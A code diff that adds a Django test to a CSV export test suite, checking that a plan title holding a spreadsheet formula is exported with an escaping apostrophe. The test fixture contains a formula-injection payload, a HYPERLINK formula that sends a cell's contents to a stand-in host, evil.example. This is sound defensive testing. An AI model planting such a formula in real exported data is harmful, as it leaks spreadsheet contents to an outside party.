@@ -235,3 +235,11 @@ def test_countries_export_query_count_does_not_grow(client, django_assert_num_qu
     with django_assert_num_queries(1):
         rows = helpers.csv_rows(body(client.get(reverse("analysis:countries_csv"))))
     assert len(rows) == 1 + 248 + extra
+
+
+def test_plans_csv_never_carries_a_live_formula(client):
+    marker = '=HYPERLINK("http://evil.example/?"&A1,"Formulaland")'
+    ActionPlanFactory(country=CountryFactory(name="Formulaland"), title=marker, period_start=2020)
+    (row,) = plans_csv(client, q="Formulaland")
+    assert row["title"] == "'" + marker
+    assert row["period_start"] == "2020"
